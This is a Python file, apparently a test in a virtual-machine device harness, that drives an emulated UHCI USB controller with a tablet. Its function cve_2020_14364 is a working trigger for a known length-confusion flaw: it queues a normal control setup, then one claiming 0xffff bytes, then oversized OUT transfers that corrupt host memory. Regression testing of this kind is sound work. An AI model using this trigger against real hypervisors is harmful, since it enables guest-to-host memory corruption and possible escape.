# SPDX-License-Identifier: GPL-2.0
"""A USB 1.1 controller, UHCI, with a tablet"""

import struct

DEVICES = ("piix3-usb-uhci", "usb-tablet,bus=dut.0,port=1")
BACKENDS = ()
# USBSTS and USBCMD
PROBE = 4, 0x0

COMMAND, FRAME, LIST, PORT = 0x0, 0x6, 0x8, 0x10
RUN = 1
PORT_ENABLED, PORT_RESET = 1 << 2, 1 << 9
SETUP, OUT = 0x2d, 0xe1
ACTIVE = 1 << 23
END = 1
DEPTH = 4
SIZE = 1024
LARGEST = 0xffff
# In seconds: one that does not end is the last.
PATIENCE = 0.3


def transfer(guest, token, data):
    buffer = guest.memory(data, 16)
    return struct.pack("<III16x", ACTIVE, (len(data) - 1) << 21 | token, buffer)


def is_active(guest, place):
    """Whether a transfer that is there is still to be done"""
    return struct.unpack("<I", guest.get(place + 4, 4))[0] & ACTIVE


def run(guest, parts):
    """Has a list of transfers done, one in a frame."""
    bar = guest.device.bars[4]
    table = guest.alloc(4096)
    for token, data in parts:
        place = guest.memory(struct.pack("<I", END) + transfer(guest, token, data), 32)
        guest.put(table, struct.pack("<I", place) + struct.pack("<I", END) * 1023)
        bar.write(COMMAND, 0, 2)
        guest.wait(0.003)
        bar.write(FRAME, 0, 2)
        bar.write(LIST, table)
        bar.write(COMMAND, RUN, 2)
        if not guest.poll(lambda place=place: not is_active(guest, place), PATIENCE):
            return


def cve_2020_14364(guest):
    """A control transfer is begun, then one that is too long is begun and refused; the
    data go on with the length of the second."""
    bar = guest.device.bars[4]
    bar.write(PORT, PORT_RESET, 2)
    bar.write(PORT, PORT_ENABLED, 2)
    set_report = struct.pack("<BBHHH", 0x21, 9, 0x200, 0, 8)
    too_long = struct.pack("<BBHHH", 0x21, 9, 0x200, 0, LARGEST)
    run(guest, [(SETUP, set_report), (SETUP, too_long)] + [(OUT, b"\xff" * SIZE)] * 8)
